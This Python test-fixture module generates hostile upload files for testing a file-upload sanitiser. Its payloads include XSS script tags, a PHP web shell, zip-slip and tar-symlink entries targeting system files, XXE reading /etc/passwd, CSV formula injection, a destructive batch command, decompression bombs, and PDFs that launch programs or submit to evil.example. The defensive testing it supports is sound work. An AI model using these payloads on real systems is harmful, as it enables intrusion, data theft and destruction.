"""Hostile files, made here: none lies in the repository, and none is ever run."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

import pikepdf
from PIL import Image, PngImagePlugin

SCRIPT = b"<script>alert(document.domain)</script>"
EICAR = (  # in two, so that nobody's scanner finds this file
    rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STAND"
    rb"ARD-ANTIVIRUS-TEST-FILE!$H+H*"
)
ZEROS = b"\x00" * 1_000_000
TELLTALE = b"Mrs Miller, number 4"  # what must not be in what is kept


# ------------------------------------------------------------------ what is no picture


def zipped(**files: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return made.getvalue()


def slipping() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("../../../../etc/cron.d/x", "* * * * * root id")
    return made.getvalue()


def tarred() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return made.getvalue()


def picture(kind: str, size: tuple[int, int] = (8, 8), **more: Any) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "teal").save(made, kind, **more)
    return made.getvalue()


def moving(kind: str) -> bytes:
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("teal", "red", "black")]
    made = io.BytesIO()
    frames[0].save(made, kind, save_all=True, append_images=frames[1:], duration=50)
    return made.getvalue()


XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    b"<x>&f;</x>"
)
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
NO_PICTURES: dict[str, bytes] = {
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    "svg_onload": b"<?xml version='1.0'?><svg onload='alert(1)'/>",
    "svg_packed": gzip.compress(b"<svg onload='alert(1)'/>"),
    "html": b"<!doctype html>" + SCRIPT,
    "html_after_blank": b"\r\n\r\n<html>" + SCRIPT,
    "script": b"alert(1)",
    "php": b"<?php system($_GET['c']);",
    "php_in_picture_name": b"GIF89a<?php system('id');",
    "gif_and_script": b"GIF89a/*\x00\x00*/=1;alert(1)//",
    "gif": picture("GIF"),
    "gif_moving": moving("GIF"),
    "bmp": picture("BMP"),
    "tiff": picture("TIFF"),
    "ico": picture("ICO"),
    "photoshop": b"8BPS\x00\x01" + bytes(20),
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file",
    "imagemagick": b"push graphic-context\nfill 'url(https://x/|id)'\n",
    "heic": b"\x00\x00\x00\x18ftypheic" + bytes(16),
    "avif": b"\x00\x00\x00\x1cftypavif" + bytes(16),
    "jpeg_2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n",
    "film": b"\x00\x00\x00\x18ftypmp42" + bytes(16),
    "sound": b"ID3\x04\x00" + bytes(20),
    "riff_other": b"RIFF\x24\x00\x00\x00AVI LIST",
    "flash": b"FWS\x0a" + bytes(16),
    "windows_program": b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00",
    "linux_program": b"\x7fELF\x02\x01\x01" + bytes(20),
    "java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
    "wasm": b"\x00asm\x01\x00\x00\x00",
    "shell": b"#!/bin/sh\nid\n",
    "batch": b"@echo off\r\ndel /q *.*\r\n",
    "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00",
    "pickle": b"\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix",
    "virus": EICAR,
    "virus_zipped": zipped(eicar_com=EICAR),
    "zip": zipped(a_txt=b"a"),
    "zip_bomb": zipped(a_bin=ZEROS * 50),
    "zip_in_zip": zipped(a_zip=zipped(b_zip=zipped(c_bin=ZEROS))),
    "zip_slip": slipping(),
    "tar_link": tarred(),
    "gzip_bomb": gzip.compress(ZEROS * 20),
    "rar": b"Rar!\x1a\x07\x01\x00",
    "seven_zip": b"7z\xbc\xaf\x27\x1c\x00\x04",
    "docm": zipped(
        word__vbaProject_bin=b"\xd0\xcf\x11\xe0", word__document_xml=b"<d/>"
    ),
    "docx_xxe": zipped(word__document_xml=XXE),
    "xlsx_xxe": zipped(xl__workbook_xml=XXE),
    "xlsx_formula": zipped(xl__sheet1_xml=b"<f>cmd|'/c calc'!A0</f>"),
    "old_word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(30),
    "rtf": rb"{\rtf1{\object\objocx}}",
    "csv_formula": b"=cmd|'/c calc'!A0,1\n",
    "csv_link": b'=HYPERLINK("http://x/?"&A1),1\n',
    "xml_laughs": LAUGHS,
    "json": b'{"__proto__": {}}',
    "mail": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT,
    "calendar": b"BEGIN:VCALENDAR\r\nATTACH:file:///etc/passwd\r\n",
    "sqlite": b"SQLite format 3\x00",
    "font": b"wOFF\x00\x01\x00\x00",
    "nothing": b"",
    "one_nul": b"\x00",
    "half_a_mark": b"\xff\xd8",
    "pdf_after_html": SCRIPT + b"\n%PDF-1.4\n",
    "pdf_after_blank": b"\n%PDF-1.4\n",
    "too_large": b"\xff\xd8\xff" + ZEROS * 11,
}


# ------------------------------------------------------------------ pictures


def _chunk(name: bytes, data: bytes) -> bytes:
    crc = struct.pack(">I", zlib.crc32(name + data))
    return struct.pack(">I", len(data)) + name + data + crc


def png(side: int = 8, *chunks: bytes, content: bytes = b"\x00" * 200) -> bytes:
    """One that says it is so large, whatever is in it."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    packed = _chunk(b"IDAT", zlib.compress(content))
    return (
        b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + packed + _chunk(b"IEND", b"")
    )


def huge_jpeg() -> bytes:
    """The size in its header is changed, nothing else."""
    small = picture("JPEG", (8, 8))
    at = small.index(b"\xff\xc0") + 5
    return small[:at] + struct.pack(">HH", 65000, 65000) + small[at + 4 :]


def with_place(kind: str) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = TELLTALE.decode()  # its description
    exif[0x0112] = 6  # lies on its side
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 0.0), 29: TELLTALE.decode()})
    return picture(kind, (16, 8), exif=exif.tobytes())


def told(name: str) -> bytes:
    said = PngImagePlugin.PngInfo()
    said.add_text(name, TELLTALE.decode(), zip=True)
    return picture("PNG", pnginfo=said)


def torn(content: bytes) -> bytes:
    return content[: len(content) * 2 // 3]


def telephone() -> bytes:
    """Two pictures in one file, as telephones save them: the first is the one."""
    made = io.BytesIO()
    first, second = (Image.new("RGB", (8, 8), each) for each in ("teal", "red"))
    first.save(made, "MPO", save_all=True, append_images=[second])
    return made.getvalue()


BOMB = _chunk(b"zTXt", b"a\x00\x00" + zlib.compress(ZEROS * 60))
PROFILE_BOMB = _chunk(b"iCCP", b"a\x00\x00" + zlib.compress(ZEROS * 60))
REFUSED_PICTURES: dict[str, Callable[[], bytes]] = {
    "png_50000": lambda: png(50_000),
    "png_7100": lambda: png(7_100),
    "png_no_side": lambda: png(0),
    "png_torn": lambda: torn(picture("PNG", (300, 300))),
    "png_moving": lambda: moving("PNG"),
    "png_text_bomb": lambda: png(8, BOMB),
    "png_profile_bomb": lambda: png(8, PROFILE_BOMB),
    "png_too_little": lambda: png(8, content=b""),
    "png_head_alone": lambda: b"\x89PNG\r\n\x1a\n",
    "jpeg_65000": huge_jpeg,
    "jpeg_torn": lambda: torn(picture("JPEG", (300, 300))),
    "jpeg_head_alone": lambda: b"\xff\xd8\xff\xe0" + SCRIPT,
    "webp_moving": lambda: moving("WEBP"),
    "webp_torn": lambda: torn(picture("WEBP", (300, 300))),
    "webp_head_alone": lambda: b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(20),
}
PAINTED_ANEW: dict[str, Callable[[], bytes]] = {
    "jpeg_place": lambda: with_place("JPEG"),
    "png_place": lambda: with_place("PNG"),
    "webp_place": lambda: with_place("WEBP"),
    "jpeg_comment": lambda: picture("JPEG", comment=SCRIPT + TELLTALE),
    "jpeg_profile": lambda: picture("JPEG", icc_profile=TELLTALE * 9),
    "jpeg_xmp": lambda: picture("JPEG", xmp=TELLTALE),
    "jpeg_virus": lambda: picture("JPEG", comment=EICAR + TELLTALE),
    "jpeg_and_zip": lambda: picture("JPEG") + zipped(a_txt=TELLTALE),
    "jpeg_and_html": lambda: picture("JPEG") + SCRIPT + TELLTALE,
    "jpeg_telephone": telephone,
    "png_text": lambda: told("Author"),
    "png_and_html": lambda: picture("PNG") + SCRIPT + TELLTALE,
    "png_and_pdf": lambda: picture("PNG") + b"%PDF-1.4\n" + TELLTALE,
}


# ------------------------------------------------------------------ PDF

Change = Callable[[pikepdf.Pdf], object]
Name, Dict, List = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
JS = Dict(S=Name.JavaScript, JS="app.alert('x')")


def pdf(*changes: Change, pages: int = 1, **saving: Any) -> bytes:
    made, sent = pikepdf.new(), io.BytesIO()
    for _page in range(pages):
        made.add_blank_page()
    for change in changes:
        change(made)
    made.save(sent, **saving)
    return sent.getvalue()


def root(**more: Any) -> Change:
    return lambda made: made.Root.update({f"/{key}": more[key] for key in more})


def note(**more: Any) -> Change:
    """Something that lies on the first page."""
    lies = Dict(Type=Name.Annot, Rect=[0, 0, 9, 9], **more)
    return lambda made: made.pages[0].obj.update({"/Annots": List([lies])})


def link(**action: Any) -> Change:
    return note(Subtype=Name.Link, A=Dict(**action))


def enclosed(content: bytes) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments["x.exe"] = content

    return change


def form(made: pikepdf.Pdf) -> None:
    """Script at each key that is pressed in it."""
    lies = Dict(Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 9, 9], T="name")
    lies.update({"/AA": Dict(K=JS), "/FT": Name.Tx})
    field = made.make_indirect(lies)
    made.pages[0].obj["/Annots"] = List([field])
    made.Root["/AcroForm"] = Dict(Fields=List([field]), XFA="<xdp/>")


def author(made: pikepdf.Pdf) -> None:
    made.docinfo["/Author"] = TELLTALE.decode()
    with made.open_metadata() as said:
        said["dc:creator"] = [TELLTALE.decode()]


def stream(content: bytes, **more: Any) -> Change:
    """In the first page, packed already."""

    def change(made: pikepdf.Pdf) -> None:
        packed = pikepdf.Stream(made, b"")
        packed.write(content, **more)
        made.pages[0].obj["/Contents"] = made.make_indirect(packed)

    return change


def picture_of(
    width: int, height: int, photo: bytes = b"", kind: Any = Name.DCTDecode
) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        drawn = pikepdf.Stream(made, b"")
        drawn.write(photo or picture("JPEG"), filter=kind)
        drawn.update({"/Width": width, "/Height": height, "/Subtype": Name.Image})
        held = Dict(XObject=Dict(Im0=made.make_indirect(drawn)))
        made.pages[0].obj["/Resources"] = held

    return change


def jpeg_2000(*, boxes: bool = True) -> bytes:
    """With where it was taken in boxes of its own, and in a comment."""
    made = io.BytesIO()
    Image.effect_noise((16, 8), 90).save(
        made, "JPEG2000", no_jp2=not boxes, comment=TELLTALE
    )
    noted = [(b"uuid", bytes(16) + TELLTALE), (b"xml ", b"<a>" + TELLTALE + b"</a>")]
    after = [
        (8 + len(said)).to_bytes(4, "big") + name + said
        for name, said in (noted if boxes else ())
    ]
    return b"".join([made.getvalue(), *after])


def signed(made: pikepdf.Pdf) -> None:
    who = Dict(Type=Name.Sig, Name=TELLTALE, Location=TELLTALE, Contents=TELLTALE)
    field = Dict(FT=Name.Sig, T="Signature", V=made.make_indirect(who))
    made.Root["/AcroForm"] = Dict(Fields=List([made.make_indirect(field)]))
    made.Root["/Perms"] = Dict(DocMDP=who)


def nested(depth: int) -> Change:
    within = List([])
    for _level in range(depth):
        within = List([within])
    return root(Deep=within)


TWICE = zlib.compress(zlib.compress(ZEROS * 200))
REFUSED_PAPERS: dict[str, Callable[[], bytes]] = {
    "pdf_locked": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "pdf_half_locked": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")),
    "pdf_201_pages": lambda: pdf(pages=201),
    "pdf_no_pages": lambda: pdf(pages=0),
    "pdf_head_alone": lambda: b"%PDF-1.7\n",
    "pdf_html": lambda: b"%PDF-1.4\n<html>" + SCRIPT,
    "pdf_bomb": lambda: pdf(
        stream(zlib.compress(ZEROS * 150), filter=Name.FlateDecode)
    ),
    "pdf_bomb_twice": lambda: pdf(
        stream(TWICE, filter=List([Name.FlateDecode, Name.FlateDecode]))
    ),
    "pdf_huge_picture": lambda: pdf(picture_of(50_000, 50_000)),
    "pdf_deep": lambda: pdf(nested(80)),
}
DISARMED: dict[str, Callable[[], bytes]] = {
    "pdf_opens_script": lambda: pdf(root(OpenAction=JS)),
    "pdf_script_by_name": lambda: pdf(
        root(Names=Dict(JavaScript=Dict(Names=List(["a", JS]))))
    ),
    "pdf_script_on_closing": lambda: pdf(root(AA=Dict(WC=JS))),
    "pdf_script_in_link": lambda: pdf(link(S=Name.JavaScript, JS="app.alert(1)")),
    "pdf_script_next": lambda: pdf(link(S=Name.URI, URI="https://a.example", Next=JS)),
    "pdf_scripts_in_a_row": lambda: pdf(
        link(S=Name.URI, URI="https://a.example", Next=List([JS, JS]))
    ),
    "pdf_script_address": lambda: pdf(link(S=Name.URI, URI="javascript:alert(1)")),
    "pdf_file_address": lambda: pdf(link(S=Name.URI, URI="file:///etc/passwd")),
    "pdf_program": lambda: pdf(link(S=Name.Launch, F="cmd.exe")),
    "pdf_program_at_once": lambda: pdf(root(OpenAction=Dict(S=Name.Launch, F="sh"))),
    "pdf_sends": lambda: pdf(link(S=Name.SubmitForm, F="https://evil.example")),
    "pdf_takes_in": lambda: pdf(link(S=Name.ImportData, F="a.fdf")),
    "pdf_other_file": lambda: pdf(link(S=Name.GoToR, F=r"\\evil\share")),
    "pdf_film": lambda: pdf(note(Subtype=Name.RichMedia)),
    "pdf_pinned_file": lambda: pdf(note(Subtype=Name.FileAttachment)),
    "pdf_form_script": lambda: pdf(form),
    "pdf_enclosed": lambda: pdf(enclosed(TELLTALE)),
    "pdf_virus": lambda: pdf(enclosed(EICAR + TELLTALE)),
    "pdf_author": lambda: pdf(author),
    "pdf_photo_place": lambda: pdf(picture_of(16, 8, with_place("JPEG"))),
    "pdf_photo_comment": lambda: pdf(
        picture_of(8, 8, picture("JPEG", comment=TELLTALE))
    ),
    "pdf_photo_and_more": lambda: pdf(picture_of(8, 8, picture("JPEG") + TELLTALE)),
    "pdf_photo_2000": lambda: pdf(picture_of(16, 8, jpeg_2000(), kind=Name.JPXDecode)),
    "pdf_photo_2000_bare": lambda: pdf(
        picture_of(16, 8, jpeg_2000(boxes=False), kind=Name.JPXDecode)
    ),
    "pdf_signed": lambda: pdf(signed),
    "pdf_comment": lambda: pdf(note(Subtype=Name.Text, T=TELLTALE, M=TELLTALE)),
    "pdf_and_html": lambda: pdf() + SCRIPT + TELLTALE,
    "pdf_and_zip": lambda: pdf() + zipped(a_txt=TELLTALE),
    "pdf_torn": lambda: torn(pdf(pages=30)),
}


def refused() -> Iterator[tuple[str, Callable[[], bytes]]]:
    yield from ((name, partial(bytes, each)) for name, each in NO_PICTURES.items())
    yield from REFUSED_PICTURES.items()
    yield from REFUSED_PAPERS.items()
